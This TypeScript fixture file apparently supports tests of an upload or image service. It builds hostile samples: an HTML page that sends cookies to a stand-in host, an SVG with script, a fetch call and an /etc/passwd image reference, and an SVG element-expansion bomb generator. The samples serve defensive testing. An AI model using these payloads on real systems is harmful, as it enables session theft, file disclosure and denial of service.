/** Text that a browser would run, had it been served under the type that its sender claims. */

export const htmlWithScript = Buffer.from(
  '<!doctype html><html><body><script>document.location="//example.invalid/?"+document.cookie</script></body></html>',
);

export const svgWithScript = Buffer.from(
  `<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64" onload="alert(1)">
  <script>fetch('//example.invalid/')</script>
  <image href="file:///etc/passwd" width="64" height="64"/>
</svg>`,
);

/** The attack: each level shows the one below ten times; `levels` of them make 10^levels elements (librsvg: 5.8 s). */
export function svgUseBomb(levels: number): Buffer {
  const groups = Array.from({ length: levels }, (_, level) => {
    const below = `<use href="#g${level}"/>`.repeat(10);
    return `<g id="g${level + 1}">${below}</g>`;
  });
  return Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64"><defs><rect id="g0" width="1" height="1"/>${groups.join('')}</defs><use href="#g${levels}"/></svg>`,
  );
}
